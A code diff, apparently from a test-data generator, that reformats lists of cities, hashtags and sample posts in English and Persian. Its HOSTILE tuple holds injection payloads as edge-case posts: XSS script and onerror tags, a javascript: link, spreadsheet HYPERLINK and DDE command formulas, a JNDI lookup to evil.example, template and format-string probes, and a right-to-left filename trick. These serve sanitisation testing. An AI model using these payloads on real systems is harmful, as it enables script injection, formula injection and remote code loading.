@@ -62,7 +62,17 @@ PERSIAN = (
 )
 
 ENGLISH_WORDS = {
-    "city": ("Shiraz", "Tabriz", "Isfahan", "Rasht", "Yazd", "Kerman", "Mashhad", "Ahvaz", "Hamadan"),
+    "city": (
+        "Shiraz",
+        "Tabriz",
+        "Isfahan",
+        "Rasht",
+        "Yazd",
+        "Kerman",
+        "Mashhad",
+        "Ahvaz",
+        "Hamadan",
+    ),
     "season": ("spring", "summer", "autumn", "winter"),
     "weekday": ("Saturday", "Sunday", "Monday", "Tuesday", "Wednesday"),
     "small": ("three", "four", "five", "six"),
@@ -74,7 +84,10 @@ PERSIAN_WORDS = {
     "small": ("سه", "چهار", "پنج", "شش"),
 }
 
-HASHTAGS = {"en": ("#Iran", "#science", "#factcheck", "#water"), "fa": ("#ایران", "#علم", "#راستی‌آزمایی", "#آب")}
+HASHTAGS = {
+    "en": ("#Iran", "#science", "#factcheck", "#water"),
+    "fa": ("#ایران", "#علم", "#راستی‌آزمایی", "#آب"),
+}
 
 REPLIES = (
     "@reader_one_example Thank you, corrected. The note is at the end of the article.",
@@ -94,16 +107,40 @@ VIRAL = (
 # When (UTC), text, how much farther than a usual post it went. X writes < > & of a post as
 # entities; the one raw <script> is what a file holds after somebody "cleaned" it by hand.
 HOSTILE = (
-    ("2025-06-11T09:20", "<script>document.title='owned'</script> is what our form received 😅", 1.6),
+    (
+        "2025-06-11T09:20",
+        "<script>document.title='owned'</script> is what our form received 😅",
+        1.6,
+    ),
     ("2025-07-08T15:02", '=HYPERLINK("https://evil.example","free tickets")', 1.2),
-    ("2025-09-16T07:45", "Two lines,\n\nand a third, with \"quotes\", commas, and a tab\there", 1.5),
+    ("2025-09-16T07:45", 'Two lines,\n\nand a third, with "quotes", commas, and a tab\there', 1.5),
     ("2025-12-09T10:10", "<img src=x onerror=alert(1)> &amp; other things readers send us", 1.4),
     ("2026-01-20T16:30", "-1+1 is not a formula, nor is +98 21 0000 0000, nor @SUM(A1:A9)", 1.3),
-    ("2026-02-10T08:15", "Rent: $1,200 in May, $1,350 in June. Is x_{1}^{2} up? $\\frac{1}{2}$", 1.4),
-    ("2026-04-21T13:40", "\u202egnp.exe\u202c is the oldest trick: the name reads backwards \u200f(علامت راست‌به‌چپ)\u200f", 1.2),
-    ("2026-06-16T17:05", "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example/a} %s %n {0} {found}", 1.3),
-    ("2026-08-11T11:11", "[click](javascript:alert(1)) | not | a | table | `code` **bold** <!-- gone -->", 1.5),
-    ("2026-09-08T14:25", "</style></svg><svg onload=alert(1)> and “quoted” 'single' \"double\"", 2.5),
+    (
+        "2026-02-10T08:15",
+        "Rent: $1,200 in May, $1,350 in June. Is x_{1}^{2} up? $\\frac{1}{2}$",
+        1.4,
+    ),
+    (
+        "2026-04-21T13:40",
+        "\u202egnp.exe\u202c is an old trick: the name reads backwards \u200f(علامت)\u200f",
+        1.2,
+    ),
+    (
+        "2026-06-16T17:05",
+        "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example/a} %s %n {0} {found}",
+        1.3,
+    ),
+    (
+        "2026-08-11T11:11",
+        "[click](javascript:alert(1)) | not | a | table | `code` **bold** <!-- gone -->",
+        1.5,
+    ),
+    (
+        "2026-09-08T14:25",
+        "</style></svg><svg onload=alert(1)> and “quoted” 'single' \"double\"",
+        2.5,
+    ),
     ("2026-09-15T09:35", "👨‍👩‍👧‍👦🏳️‍🌈 خانواده‌ها در جشن ۱۰۰ سالگی دبستان 🎈🎈🎈", 2.2),
     ("2026-10-06T15:50", "دلار $42$ شد یا $43$؟ جدول کامل: &lt;b&gt; یعنی درشت، نه دستور 🙂", 2.6),
     ("2026-10-20T08:05", "=cmd|' /C calc'!A0 و متن فارسی: تیترهایی که فرم ما دریافت می‌کند", 2.3),
